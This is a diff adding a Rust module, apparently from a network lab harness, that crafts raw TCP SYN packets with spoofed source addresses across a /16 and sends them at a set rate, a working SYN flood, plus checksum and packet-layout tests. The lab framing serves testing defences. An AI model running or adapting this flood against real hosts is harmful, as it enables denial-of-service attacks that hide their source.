@@ -1,0 +1,122 @@
+//! TCP SYNs by hand, from addresses that do not exist.
+//!
+//! In: an act. Out: a thread of the cast. Must not: send anywhere but to this host, from the far one.
+
+use std::io;
+use std::net::{Ipv4Addr, SocketAddrV4};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use serde::Deserialize;
+use socket2::{Domain, Protocol, Socket, Type};
+
+use super::cast::Cast;
+use crate::lab::LabError;
+use crate::lab::stage::{Place, Stage};
+
+const TCP: u8 = 6;
+const SYN: u8 = 2;
+/// So often in a second a thread sends.
+const TURNS: u32 = 50;
+
+/// SYNs from the far host, each from another address of a network of 65,536.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Flood {
+    name: String,
+    to: SocketAddrV4,
+    /// The network: its first two numbers. Answers to 10.3 vanish, to 198.18 this host has no route.
+    from: [u8; 2],
+    per_second: u32,
+    /// So many, and then no more.
+    count: Option<u32>,
+}
+
+impl Flood {
+    pub(super) fn perform(&self, stage: &Stage, cast: &mut Cast) -> Result<(), LabError> {
+        let socket = stage.at(Place::Far, raw)?;
+        let socket = socket.map_err(|error| LabError::NotHere(format!("a raw socket: {error}")))?;
+        let flood = self.clone();
+        let mut left = self.count.unwrap_or(u32::MAX);
+        let each = (self.per_second / TURNS).max(1);
+        cast.start(&self.name, move |stop: &AtomicBool| {
+            let mut host = 0_u16;
+            while left > 0 && !stop.load(Ordering::Relaxed) {
+                for _ in 0..each.min(left) {
+                    host = host.wrapping_add(1);
+                    let [high, low] = host.to_be_bytes();
+                    let from = Ipv4Addr::new(flood.from[0], flood.from[1], high, low);
+                    let packet = syn(SocketAddrV4::new(from, 1024 + host % 60_000), flood.to, host);
+                    // One that is lost on the way out is one less.
+                    let _ = socket.send_to(&packet, &flood.to.into());
+                }
+                left = left.saturating_sub(each);
+                std::thread::sleep(Duration::from_secs(1) / TURNS);
+            }
+        })
+    }
+}
+
+fn raw() -> io::Result<Socket> {
+    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP))?;
+    socket.set_header_included_v4(true)?;
+    Ok(socket)
+}
+
+/// An IPv4 packet with a TCP SYN. The kernel fills in length, id and checksum of the IP header, not the checksum of TCP.
+fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u16) -> Vec<u8> {
+    let segment = |checksum: u16| {
+        let mut tcp = Vec::with_capacity(24);
+        tcp.extend(from.port().to_be_bytes());
+        tcp.extend(to.port().to_be_bytes());
+        tcp.extend(u32::from(sequence).to_be_bytes());
+        // Acknowledgement; header of six words, flags; window.
+        tcp.extend([0, 0, 0, 0, 6 << 4, SYN, 0xff, 0xff]);
+        tcp.extend(checksum.to_be_bytes());
+        // Urgent pointer; the option of the maximum segment size, 1460.
+        tcp.extend([0, 0, 2, 4, 0x05, 0xb4]);
+        tcp
+    };
+    let mut summed = Vec::with_capacity(36);
+    summed.extend(from.ip().octets());
+    summed.extend(to.ip().octets());
+    summed.extend([0, TCP, 0, 24]);
+    summed.extend(segment(0));
+
+    // Version and header length; service, length, id and fragment; time to live, protocol, checksum.
+    let mut packet = vec![0x45, 0, 0, 44, 0, 0, 0, 0, 64, TCP, 0, 0];
+    packet.extend(from.ip().octets());
+    packet.extend(to.ip().octets());
+    packet.extend(segment(checksum(&summed)));
+    packet
+}
+
+/// The checksum of the Internet (RFC 1071), of an even number of bytes.
+fn checksum(bytes: &[u8]) -> u16 {
+    let words = bytes.chunks_exact(2).filter_map(|pair| Some(u16::from_be_bytes(pair.try_into().ok()?)));
+    let sum: u32 = words.map(u32::from).sum();
+    let folded = (sum & 0xffff) + (sum >> 16);
+    let folded = (folded & 0xffff) + (folded >> 16);
+    !u16::try_from(folded).unwrap_or(u16::MAX)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_checksum_makes_the_sum_of_all_words_one_of_ones() {
+        let bytes = [0x45, 0x00, 0x00, 0x3c, 0x1c, 0x46, 0x40, 0x00];
+        let sum = checksum(&bytes);
+        let mut whole = bytes.to_vec();
+        whole.extend(sum.to_be_bytes());
+        assert_eq!(checksum(&whole), 0);
+    }
+
+    #[test]
+    fn a_syn_is_44_bytes_from_where_it_says() {
+        let packet = syn("10.3.0.7:1031".parse().unwrap(), "10.2.0.1:80".parse().unwrap(), 7);
+        assert_eq!((packet.len(), &packet[12..16]), (44, &[10, 3, 0, 7][..]));
+        assert_eq!(packet[33], SYN);
+    }
+}
